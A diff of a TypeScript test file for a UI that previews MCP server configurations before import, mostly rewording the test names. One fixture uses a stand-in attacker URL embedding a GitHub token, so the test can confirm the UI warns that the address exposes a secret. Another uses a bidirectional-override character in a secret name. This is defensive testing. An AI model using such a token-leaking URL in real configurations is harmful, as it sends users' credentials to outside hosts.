@@ -29,8 +29,8 @@ const items = (name: string) =>
     .getAllByRole('listitem')
     .map((one) => one.textContent);
 
-describe('servers that would be added', () => {
-  it('are shown with each argument, the folder and the name of every variable, before any consent', () => {
+describe('servers offered for import', () => {
+  it('are shown with each argument, the folder and every variable name before any permission', () => {
     const { calls } = drawn(<ImportList preview={preview({ label: 'a', target: program })} />);
     expect(items('Arguments')).toEqual(['-y', 'some server', '(empty)']);
     expect(items('Environment')).toEqual([
@@ -42,7 +42,7 @@ describe('servers that would be added', () => {
     expect(calls).toEqual([]);
   });
 
-  it('are shown with the name of every header where they are at an address', () => {
+  it('are shown with every header name if they have an address', () => {
     const target = {
       type: 'http' as const,
       url: 'https://a.example/mcp',
@@ -52,7 +52,7 @@ describe('servers that would be added', () => {
     expect(items('Headers')).toEqual(['Authorization = •••••• (not shown)']);
   });
 
-  it('cannot be added while none is ticked, nor taken twice, and say why', async () => {
+  it('can’t be added with none selected, nor added twice, and say why', async () => {
     const there = { label: 'b', target: program, duplicateOf: 'mine' };
     const list = preview({ label: 'a', target: program }, there);
     const { user, calls } = drawn(<ImportList preview={list} />);
@@ -66,7 +66,7 @@ describe('servers that would be added', () => {
     expect(calls).toEqual([]);
   });
 
-  it('say which secrets come with them, by where these stand', () => {
+  it('list the imported secrets by location', () => {
     const target = { type: 'http' as const, url: 'https://a.example/mcp', headerNames: [] };
     const secrets = ['oauth.clientSecret', 'headers.a\u202Eb'];
     drawn(<ImportList preview={preview({ label: 'a', target, secrets })} />);
@@ -76,7 +76,7 @@ describe('servers that would be added', () => {
     ]);
   });
 
-  it('say what of their entry is not taken over, whose project it is, and that they were off', () => {
+  it('say what isn’t imported, whose project it is, and that they were off', () => {
     const left = ['sandbox (Skillgate starts the command without a sandbox)'];
     const one = { label: 'a', target: program, left, project: '/w/shop', isOff: true };
     drawn(<ImportList preview={preview(one)} />);
@@ -85,7 +85,7 @@ describe('servers that would be added', () => {
     expect(screen.getByText('switched off')).toBeTruthy();
   });
 
-  it('that stand in another file, too, are added only when they are ticked', async () => {
+  it('are added only if selected when another file has them, too', async () => {
     const twin = { label: 'b', target: program, alsoIn: 'Cursor' };
     const { user, calls } = drawn(<ImportList preview={preview(twin)} />, {}, refused);
     expect(screen.getByText('Same server as in Cursor.')).toBeTruthy();
@@ -95,7 +95,7 @@ describe('servers that would be added', () => {
     expect(calls[0]?.input).toEqual({ importId: 'i', labels: ['b'], given: {}, inTheClear: false });
   });
 
-  it('ask for what their entry leaves open, hidden where it is a secret, and wait for it', async () => {
+  it('ask for missing values, hidden if secret, and wait for them', async () => {
     const ask = { fields: ['env.KEY'], isOptional: false, isHidden: true };
     const asks = [
       { ...ask, name: 'input:key', kind: 'input' as const, about: 'Key of the search' },
@@ -127,7 +127,7 @@ describe('servers that would be added', () => {
     ]);
   });
 
-  it('have a list where their entry has one, with nothing picked for the person', async () => {
+  it('show a list if their entry has one, with nothing preselected', async () => {
     const ask = { kind: 'input' as const, fields: ['env.REGION'], isHidden: true };
     const asks = [{ ...ask, name: 'input:region', options: ['eu', 'us'], isOptional: false }];
     const { user, calls } = drawn(
@@ -146,7 +146,7 @@ describe('servers that would be added', () => {
     ]);
   });
 
-  it('say to whom a value is sent, and that a secret would be seen in an address', () => {
+  it('say who gets a value, and that an address would expose a secret', () => {
     const target = {
       type: 'http' as const,
       url: 'https://evil.example/?t=${GITHUB_TOKEN:-none}',
@@ -162,7 +162,7 @@ describe('servers that would be added', () => {
     ).toBeTruthy();
   });
 
-  it('have nothing given to them that nobody gave, whatever they are called', () => {
+  it('get no value that nobody gave, whatever their names', () => {
     const ask = { kind: 'variable' as const, fields: ['env.A'], isOptional: false, isHidden: true };
     const asks = [{ ...ask, name: 'name' }];
     drawn(<ImportList preview={preview({ label: 'constructor', target: program, asks })} />);
